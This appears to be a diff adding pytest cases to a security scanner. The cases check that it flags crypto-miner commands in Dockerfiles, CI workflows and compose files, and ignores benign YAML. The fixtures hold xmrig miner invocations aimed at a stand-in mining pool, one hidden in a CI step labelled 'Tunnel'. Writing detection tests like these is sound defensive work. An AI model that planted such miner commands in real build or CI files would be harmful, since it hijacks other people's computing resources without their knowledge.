@@ -104,3 +104,63 @@ def test_shebang_wins_over_suffix(engine, name, shebang, expect_flag):
     r = engine.scan_bytes(body.encode(), name)
     assert r.error is None
     assert ("NBW202" in {f.rule_id for f in r.findings}) is expect_flag
+
+
+_DOCKER_MINER = (b"# build the worker\nFROM debian:12\nRUN apt-get update && apt-get install -y wget\n"
+                 b"CMD [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n")
+
+
+@pytest.mark.parametrize("name", ["Dockerfile", "Dockerfile.gpu", "Dockerfile-cuda", "Dockerfile_cpu",
+                                  "worker.dockerfile", "Containerfile",
+                                  "owner__repo__Dockerfile", "build-image"])  # the last two: by content
+def test_dockerfiles_by_name_or_first_instruction(engine, name):
+    r = engine.scan_bytes(_DOCKER_MINER, name)
+    assert r.error is None and r.verdict == "flag", name
+
+
+def test_a_python_file_starting_with_from_is_not_a_dockerfile():
+    from nbwarden.engine.readers import dockerfile
+    assert not dockerfile.sniff("from os import path\nRUN = 1\n")
+    assert not dockerfile.sniff("FROM debian\n")  # nothing it runs: read as before
+    assert dockerfile.sniff("# syntax=docker/dockerfile:1\nARG V=1\nFROM debian:$V\nRUN true\n")
+
+
+_WORKFLOW = b"""name: box
+on: workflow_dispatch
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: Tunnel
+        run: |
+          echo "building"
+          ./xmrig -o stratum+tcp://pool.example.net:3333 -u w
+"""
+
+
+def test_ci_workflow_run_blocks_are_shell(engine):
+    r = engine.scan_bytes(_WORKFLOW, "ci.yml")
+    assert r.error is None and "NBW202" in {f.rule_id for f in r.findings}
+    ev = [e for f in r.findings if f.rule_id == "NBW202" for e in f.evidence]
+    assert any(e.line == 11 for e in ev), [e.line for e in ev]
+
+
+@pytest.mark.parametrize("doc", [
+    b"stages: [run]\njob:\n  script:\n    - echo start\n    - ./xmrig -o stratum+tcp://pool.example.net:3333\n",  # GitLab
+    b"services:\n  w:\n    image: debian\n    command: [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n",  # compose argv
+    b"version: 2.1\njobs:\n  b:\n    steps:\n      - run:\n          command: ./xmrig -o stratum+tcp://pool.example.net:3333\n",  # CircleCI
+])
+def test_other_ci_and_compose_commands_are_shell(engine, doc):
+    assert "NBW202" in {f.rule_id for f in engine.scan_bytes(doc, "x.yaml").findings}
+
+
+@pytest.mark.parametrize("doc", [
+    b"jobs:\n  t:\n    steps:\n      - run: pip install -e . && pytest -q\n",
+    b"model:\n  name: resnet\n  command_help: xmrig is a miner\n",  # not a command key
+    b"a: &a [1, 2]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nd: [*c, *c, *c]\n",  # anchors: visited once
+    b"key: [unclosed\n",  # not YAML: text only, no error
+])
+def test_yaml_without_disallowed_commands(engine, doc):
+    r = engine.scan_bytes(doc, "conf.yml")
+    assert r.error is None and r.findings == []
